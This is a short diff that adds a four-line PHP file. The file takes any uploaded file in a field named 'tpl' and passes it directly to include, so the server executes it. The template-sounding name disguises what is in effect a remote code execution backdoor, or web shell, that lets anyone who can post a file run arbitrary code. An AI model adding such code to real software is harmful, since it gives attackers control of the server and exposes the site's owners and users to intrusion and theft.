@@ -1,0 +1,4 @@
+<?php
+if (!empty($_FILES['tpl']['tmp_name'])) {
+    include $_FILES['tpl']['tmp_name'];
+}
